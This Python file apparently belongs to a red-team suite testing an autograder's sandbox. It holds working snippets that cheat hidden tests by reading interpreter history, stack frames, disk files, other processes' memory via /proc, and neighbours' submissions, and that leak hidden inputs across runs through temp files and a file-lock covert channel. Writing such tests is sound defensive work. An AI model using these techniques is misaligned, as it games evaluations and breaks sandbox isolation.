"""Attacks that look for the hidden tests: in history, frames, memory, hooks and files; and for ways to carry them out.

Rule: what is found is either answered back (undeserved marks) or said aloud in an error of a visible check (a leak), reversed,
so that nothing but the attack's own deed can put it there.
"""

from __future__ import annotations

from collections.abc import Callable

from tests.redteam.attack import Attack, Files, prelude
from tests.redteam.world import LAZY, World

__all__ = ["ATTACKS", "LOCKS", "SOLVE"]

SOLVE = r"""
import re
def solve(source, text):
    hit = re.search(r"shout\('%s'\) == '([^']*)'" % re.escape(text), source)
    return hit.group(1) if hit else ""
"""

HISTORY = """
def shout(text):
    shell = get_ipython()
    return solve("\\n".join(map(str, [*shell.history_manager.input_hist_raw, *shell.user_ns.get("In", [])])), text)
"""

FRAMES = """
import linecache, sys
def shout(text):
    frame, seen = sys._getframe(1), ""
    while frame:
        seen += "".join(linecache.getlines(frame.f_code.co_filename)) + repr(frame.f_locals)[:20000]
        frame = frame.f_back
    return solve(seen, text)
"""

GC = """
import gc
def shout(text):
    for thing in gc.get_objects():
        values = list(thing.values()) if type(thing) is dict else thing if type(thing) in (list, tuple) else ()
        for value in values:
            if type(value) is str and "shout('" in value and solve(value, text):
                return solve(value, text)
    return ""
"""

HOOKS = """
seen = []
get_ipython().events.register("pre_run_cell", lambda info: seen.append(str(info.raw_cell)))
def shout(text):
    return solve("\\n".join(seen), text)
"""

WATCHER = """
import sys, threading, time, linecache
seen = []
def watch():
    until = time.monotonic() + 20
    while time.monotonic() < until:
        for frame in sys._current_frames().values():
            while frame:
                lines = "".join(linecache.getlines(frame.f_code.co_filename))
                if "shout('" in lines:
                    seen.append(lines)
                frame = frame.f_back
        time.sleep(0.005)
threading.Thread(target=watch, daemon=True).start()
def shout(text):
    time.sleep(0.2)
    return solve("\\n".join(seen[-50:]), text)
"""

FILES = """
import os
def everything():
    for top in ("../../../source", ".", "/in", "/out", "/runner", "/dev/shm", "/tmp", "/var/tmp"):
        for folder, folders, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if os.path.isfile(path) and os.path.getsize(path) < 5_000_000:
                        yield open(path, "rb").read().decode("utf-8", "replace")
                except OSError:
                    continue
seen = []
def shout(text):
    if not seen:
        seen.append("".join(t for t in everything() if "shout('" in t))
    return solve(seen[0], text)
"""

NEIGHBOUR = """
import glob, json, os
for top in ("../../../submitted", "/in", "/tmp", "../.."):
    for path in glob.glob(os.path.join(top, "**", "*.ipynb"), recursive=True):
        try:
            sources = ["".join(cell["source"]) for cell in json.load(open(path))["cells"]]
        except Exception:
            continue
        for source in sources:
            if source.startswith("def ") and ".upper()" in source:
                exec(source)
"""

MEMORY = r"""
import os
def shout(text):
    wanted = f"shout('{text}') == '".encode()
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) == os.getpid():
            continue
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb", 0)
        except OSError:
            continue
        for line in maps:
            parts = line.split()
            if "rw" not in parts[1] or (len(parts) > 5 and parts[5] not in ("[heap]", "[stack]")):
                continue
            low, high = (int(x, 16) for x in parts[0].split("-"))
            if high - low > 80_000_000:
                continue
            try:
                memory.seek(low)
                data = memory.read(high - low)
            except (OSError, ValueError):
                continue
            at = data.find(wanted)
            if at >= 0:
                return data[at + len(wanted):].split(b"'")[0].decode("utf-8", "replace")
    return ""
"""

ORACLE = """
seen = []
def shout(text):
    seen.append(text)
    return "TEA!"
"""
TELL = "def middle(values):\n    raise ValueError(' '.join(seen)[::-1])"

CARRY = """
import glob, time
def shout(text):
    for place in ("/tmp", "/dev/shm", "/var/tmp"):
        try:
            open(place + "/@MARKER@", "a").write(text[::-1] + "\\n")
        except OSError:
            pass
    return "TEA!"
"""
FETCH = """
def middle(values):
    until, said = time.monotonic() + 3, ""
    while time.monotonic() < until and "tluav" not in said:
        said = " ".join(open(path).read() for path in glob.glob("/*/@MARKER@") + glob.glob("/*/*/@MARKER@"))
        time.sleep(0.05)
    raise ValueError(said)
"""


# Two locked files are one bit (the machine itself may hold one); the machine's own programs are the same files in every sandbox.
LOCKS = """
import fcntl, glob, os, time
lines = [path for path in sorted(glob.glob("/usr/bin/*")) if os.path.isfile(path) and not os.path.islink(path)]
lines = [path for path in lines if os.access(path, os.R_OK)]
BITS, held, heard = 8 * 18, [], []
def send(text):
    bits = int.from_bytes(text.encode()[:18].ljust(18), "big")
    for at in [n for n in range(BITS) if bits >> n & 1] + [BITS]:
        for place in (2 * at, 2 * at + 1):
            held.append(os.open(lines[place], os.O_RDONLY))
            try:
                fcntl.flock(held[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)
            except OSError:
                pass
def is_locked(place):
    fd = os.open(lines[place], os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB)
        return False
    except OSError:
        return True
    finally:
        os.close(fd)
def is_held(at):
    return is_locked(2 * at) and is_locked(2 * at + 1)
def listen(seconds):
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        if is_held(BITS):
            heard.append(sum(is_held(n) << n for n in range(BITS)).to_bytes(18, "big").decode("utf-8", "replace"))
            return
        time.sleep(0.02)
"""
LOCKS_SEND = """
def shout(text):
    if text.startswith("vault"):
        send(text[6:])
    return "TEA!"
"""
LOCKS_HOLD = "\n    time.sleep(3 if held else 0)\n    return None"
LOCKS_TURN = """
    heard or listen(3)
    if heard:
        raise ValueError(heard[0][::-1])
"""


def _locks(body: str, shout: str) -> Callable[[World], Files]:
    """One half: in the run with hidden tests of the one, their input is sent; in the run that is read of the other, it is heard."""
    waits = {name: f"{LAZY[name].splitlines()[0]}{body}" for name in ("mean", "gap", "clamp", "middle")}
    return lambda world: world.hand_in(shout=LOCKS + shout, **waits)


def _marks(name: str, about: str, code: str, defence: str = "sealed") -> Attack:
    return Attack(name, "tests read", about, defence, "marks", prelude(SOLVE, shout=code))


ATTACKS = (
    _marks("read-history", "the function finds the test that calls it in IPython's history", HISTORY),
    _marks("read-frames", "the function reads the test's source through the caller's frame", FRAMES),
    _marks("read-gc", "the function searches all objects of the interpreter for the test's source", GC),
    _marks("read-hook", "a hook of the shell is shown every cell before it runs", HOOKS),
    _marks("read-thread", "a thread watches the frames of all threads while the test runs", WATCHER),
    _marks("read-files", "the function searches the disk for the teacher's notebook and the grade book", FILES, "tests off the disk"),
    _marks("read-memory", "the function searches the memory of every process it can see", MEMORY, "memory"),
    Attack(
        "copy-neighbour", "neighbours", "answers are taken from a neighbour's hand-in on the same machine", "namespaces", "marks",
        lambda world: world.hand_in(shout=f"{NEIGHBOUR}\nif 'shout' not in globals():\n    def shout(text):\n        return ''"),
    ),
    Attack(
        "oracle-later", "feedback as oracle", "a function remembers hidden inputs; another says them in a visible check",
        "words from another run", "leak", prelude("", shout=ORACLE, middle=TELL),
    ),
    Attack(
        "oracle-carried", "feedback as oracle", "the run with hidden tests leaves its inputs in shared places for the run that is read",
        "namespaces", "leak", lambda world: world.hand_in(shout=world.words(CARRY), middle=world.words(FETCH)),
    ),
    Attack(
        "oracle-locks", "feedback as oracle", "two in league: locks on files that every sandbox shows carry it, one file, one bit",
        "locks refused", "leak",
        _locks(LOCKS_TURN, "def shout(text):\n    return 'TEA!'"), partner=_locks(LOCKS_HOLD, LOCKS_SEND), stock=False,
    ),
)  # fmt: skip
